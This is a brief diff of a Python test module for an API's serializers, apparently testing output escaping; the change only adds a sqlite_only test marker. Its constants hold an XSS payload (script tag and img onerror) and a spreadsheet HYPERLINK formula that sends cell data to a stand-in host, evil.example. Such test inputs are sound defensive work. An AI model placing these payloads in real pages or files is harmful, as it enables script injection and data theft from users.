@@ -12,7 +12,7 @@ from tests.api.running import connect, make_service
 from tests.api.serializers.readers import book, features, feed, get, lines, rows, sheet
 from tests.store.smallregister import START, city, opened, partnership, source, take_in
 
-pytestmark = pytest.mark.anyio
+pytestmark = [pytest.mark.anyio, pytest.mark.sqlite_only]
 SCRIPT = '</title></script><script>alert("1")</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"here")'
 NAMES = {
